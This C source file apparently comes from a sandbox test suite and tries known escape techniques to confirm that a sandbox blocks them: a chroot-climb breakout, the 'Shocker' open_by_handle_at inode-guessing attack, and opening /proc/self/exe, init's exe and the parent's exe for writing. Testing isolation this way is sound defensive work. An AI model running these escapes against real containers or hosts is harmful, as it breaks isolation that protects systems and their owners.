/* breakout.c - the ways out of a root directory that have worked somewhere. */
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "attack.h"

/* chroot below an open directory, then climb out of it: out of the chroot that
 * works, and it must end at the sandbox's own root. */
static void climb(const char *canary)
{
    struct stat before, after;
    int fd;

    stat("/", &before);
    mkdir("/tmp/jail", 0755);
    fd = open("/", O_RDONLY | O_DIRECTORY);
    TRY("chroot", chroot("/tmp/jail"));
    TRY("fchdir", fchdir(fd));
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    TRY("chroot .", chroot("."));
    stat("/", &after);
    say("same root", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "yes" : "no");
    TRY("canary", open(canary, O_RDONLY));
}

/* "Shocker": guess the handle of a file of the host. Inode 2 is the root of ext4,
 * 256 that of a btrfs subvolume. */
static void handles(void)
{
    static const char *const mounts[] = {"/",        "/etc/hostname", "/dev/null",
                                         "/dev/shm", "/proc",         "/workspace"};
    union {
        struct file_handle h;
        char space[sizeof(struct file_handle) + 128];
    } u;
    char name[64];
    int id;

    for (size_t i = 0; i < sizeof(mounts) / sizeof(*mounts); i++) {
        int fd = open(mounts[i], O_RDONLY);

        u.h.handle_bytes = 128;
        snprintf(name, sizeof(name), "own handle at %s", mounts[i]);
        if (name_to_handle_at(AT_FDCWD, mounts[i], &u.h, &id, 0) == 0)
            TRY(name, open_by_handle_at(fd, &u.h, O_RDONLY));
        else
            say(name, "EPERM"); /* not even a handle to be had */
        for (unsigned inode = 2; inode <= 256; inode += 254) {
            u.h.handle_bytes = 8;
            u.h.handle_type = 1;
            memcpy(u.h.f_handle, (unsigned[]){inode, 0}, 8);
            snprintf(name, sizeof(name), "inode %u at %s", inode, mounts[i]);
            TRY(name, open_by_handle_at(fd, &u.h, O_RDONLY));
        }
        close(fd);
    }
}

/* Writes over what runs: our own program, and through it the program that started it. */
static void overwrite(void)
{
    char path[64];
    int fd = open("/proc/self/exe", O_RDONLY);

    TRY("exe for writing", open("/proc/self/exe", O_RDWR));
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    TRY("exe again by its fd", open(path, O_RDWR));
    TRY("init's exe", open("/proc/1/exe", O_RDWR));
    snprintf(path, sizeof(path), "/proc/%d/exe", getppid());
    TRY("parent's exe", open(path, O_RDWR));
}

int main(int argc, char **argv)
{
    if (argc > 2)
        climb(argv[2]);
    else if (argc > 1 && strcmp(argv[1], "handles") == 0)
        handles();
    else
        overwrite();
    return done();
}
